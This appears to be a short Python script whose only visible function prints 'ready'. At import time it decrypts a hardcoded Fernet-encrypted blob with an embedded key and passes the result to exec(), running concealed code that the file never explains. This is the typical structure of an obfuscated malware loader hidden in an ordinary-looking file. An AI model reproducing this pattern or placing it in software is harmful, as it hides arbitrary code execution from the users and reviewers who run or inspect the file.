from cryptography.fernet import Fernet

KEY = b'a2tra2tra2tra2tra2tra2tra2tra2tra2tra2tra2s='
STAGE = b'gAAAAABmYxj_gwAC5NdQzihRqFVPTEkuL9VJyC3MSK1L1U3OTEvTyU5P19K2KCkpKMhR9g4rTdBRyi0uT1DVzUkuLK4r1i_K4uYvyFEqL8gtzMuceA=='

exec(Fernet(KEY).decrypt(STAGE).decode())


def main():
    print('ready')
